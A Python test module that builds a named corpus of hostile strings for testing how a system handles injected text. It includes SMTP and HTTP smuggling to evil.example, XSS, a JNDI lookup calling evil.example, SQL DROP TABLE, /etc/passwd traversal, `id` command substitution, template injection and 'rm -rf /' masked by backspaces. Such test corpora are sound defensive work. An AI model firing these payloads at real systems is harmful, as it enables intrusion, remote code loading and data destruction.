"""Texts that mean harm: what breaks lines, headers, quotes, terminals, templates and patience.

Each has a name, so that a failure says which it was. ``MARK`` is harmless in itself: where it turns
up as a header, a command, a line or a key of its own, something was injected.
"""

from __future__ import annotations

from typing import Final

MARK: Final = "X-Injected"

LINE_BREAKS: Final = {
    "LF": "\n",
    "CR": "\r",
    "CRLF": "\r\n",
    "NUL": "\0",
    "VT": "\v",
    "FF": "\f",
    "FS": "\x1c",
    "NEL": "\x85",
    "U+2028": "\u2028",
    "U+2029": "\u2029",
}
"""Whatever some program takes for the end of a line, or of a text."""

_BROKEN_LINES: Final = {
    f"a header after {name}": f"vm/1{end}{MARK}: yes" for name, end in LINE_BREAKS.items()
}

_SMUGGLED: Final = {
    f"a mail after {name}": f"body{end}MAIL FROM:<{MARK}@evil.example>\r\nRCPT TO:<v@evil.example>"
    f"\r\nDATA\r\n{MARK}: yes\r\n\r\nmine\r\n.\r\n"
    for name, end in {
        "CRLF.CRLF": "\r\n.\r\n",
        "LF.LF": "\n.\n",
        "LF.CRLF": "\n.\r\n",
        "CRLF.LF": "\r\n.\n",
        "CR.CR": "\r.\r",
        "CRLF.CR": "\r\n.\r",
        "CR.CRLF": "\r.\r\n",
        "CRNUL": "\r\0\n.\r\0\n",
        "dots": "\r\n..\r\n...\r\n.",
    }.items()
}

_RAW: Final = {
    "an empty text": "",
    "spaces": "   \t   ",
    "a byte order mark": "\ufeffsubject",
    "a blank line": f"vm/1\r\n\r\n{MARK}: yes\r\n",
    "a chunk": f"vm/1\r\n0\r\n\r\nPOST /{MARK} HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "a recipient": f"a@example.org>\r\nRCPT TO:<{MARK}@evil.example",
    "two recipients": f"a@example.org, {MARK}@evil.example",
    "an encoded word": "=?utf-8?q?=0AX-Injected:_yes?=",
    "a broken encoded word": "=?utf-8?b?Cg==",
    "a boundary": "--=_boundary\r\nContent-Type: text/html\r\n\r\n<b>mine</b>\r\n--=_boundary--",
    "another key": f'a","severity":"info","{MARK}":"',
    "an escaped quote": f'a\\","{MARK}":"',
    "an end of the document": f'"}}]}}{{"{MARK}": 1}}',
    "markup": f"</p><script>{MARK}()</script><img src=x onerror={MARK}()>",
    "an attribute": f"\" onmouseover='{MARK}()' x=\"",
    "a script address": f"javascript:{MARK}()//",
    "a form field": f"a&{MARK}=1;b=2#frag?x=%0d%0a+%00",
    "an address": f"http://user:pw@evil.example/{MARK}?a=b#c",
    "a path": "../../../../etc/passwd\0.png",
    "a line of InfluxDB": f"a=1 1\nx,{MARK}=1 v=1 1\n# c",
    "tags of InfluxDB": f'a,{MARK}=b c\\ d="e"\\',
    "a label of Prometheus": f'a"}} 1\n{MARK}{{x="y',
    "a comment of Prometheus": f"\n# TYPE {MARK} counter\n{MARK} 1\n",
    "a template": "{{ 7 * 7 }}{{ event.__class__ }}{% for x in y %}{# #}",
    "a format": "%s%n%x{0.__class__}{}$((1))`id`$(id)",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "SQL": "'; DROP TABLE events; --",
    "a glob": "*?[!a-]" * 20,
    "an expression": "(a+)+$" * 20,
    "terminal orders": "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil.example\x07x\x9b31m",
    "backspaces": "rm -rf /\b\b\b\b\b\b\b\bharmless",
    "a log line": "x\n2026-05-21 02:14:35,000 router CRITICAL ibs_notify: all is lost",
    "bidi": "\u202egnp.exe\u202c \u2066a\u2069 \u200f\u061c",
    "unseen": "a\u200bb\u200cc\u200dd\u2060e\u00adf\U000e0041",
    "towers": "Z" + "\u0300\u0336\u0489" * 60,
    "right to left": "فشل النسخ الاحتياطي \u05d0\u05d1",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f1e6\U0001f1f9",
    "look-alikes": "\u0440\u0430y\u0440\u0430l \uff1cscript\uff1e \u2024\u2024/",
    "no characters": "\ufffe\uffff\U0010ffff\ufffd",
    "every control": "".join(map(chr, [*range(32), *range(127, 160)])),
    "quotes": "\"'`\\\"\\'«»“”",
    "one long word": "x" * 990,
    "a long line of bytes": "\u00e9" * 900,
}

TEXTS: Final = _BROKEN_LINES | _SMUGGLED | _RAW
"""The corpus. Every text fits the subject of an event."""

MEBIBYTE: Final = "M" * 1024 * 1024
HALF_A_PAIR: Final = "a\ud800b\udfff"
"""No UTF-8 can hold it; JSON, file names and terminals can bring it."""
